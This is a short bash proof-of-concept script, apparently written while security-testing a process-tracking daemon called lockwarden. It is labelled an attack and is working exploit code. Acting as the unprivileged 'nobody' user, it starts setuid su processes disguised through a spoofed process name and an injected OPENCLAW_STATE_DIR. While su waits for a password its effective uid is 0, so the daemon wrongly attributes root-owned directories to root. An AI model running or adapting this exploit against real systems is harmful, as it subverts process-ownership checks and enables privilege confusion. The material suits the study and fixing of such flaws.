#!/bin/bash
# Attack: the gateway's uid is taken from its EFFECTIVE uid. nobody runs the setuid su as
# "<entry>/openclaw.mjs -c gateway root" on a pty: while it waits for root's password its euid
# is 0 and it keeps nobody's environment (OPENCLAW_STATE_DIR). The daemon then checks the
# state dir for uid 0: any folder of root's (/tmp: root's, so even the "others may write"
# rule does not apply) is taken, charged to root's 16.
LW=${LW:-/work/wt/attack/build/check/src/lockwarden}
T=$(mktemp -d /tmp/atk.XXXX); chmod 755 $T; echo '{}' > $T/lw.json; mkdir $T/app; echo // > $T/app/openclaw.mjs
for sd in /tmp /etc /usr; do
  setpriv --reuid=nobody --regid=nogroup --clear-groups env -i OPENCLAW_STATE_DIR=$sd \
    script -qfc "bash -c 'exec -a $T/app/openclaw.mjs /usr/bin/su -c gateway root'" /dev/null < /dev/zero > /dev/null 2>&1 &
done
sleep 1
for p in $(pgrep -f "^$T/app/openclaw.mjs -c gateway"); do echo "pid $p $(grep Uid /proc/$p/status | tr '\t' ' ')"; done
env -u OPENCLAW_STATE_DIR timeout 5 $LW run --config $T/lw.json --socket $T/sock --events - > $T/events 2>/dev/null
grep -o '"discovered":[^]]*]' $T/events | head -1
for p in $(pgrep -f "^$T/app/openclaw.mjs -c gateway"); do kill $p; done; rm -rf $T
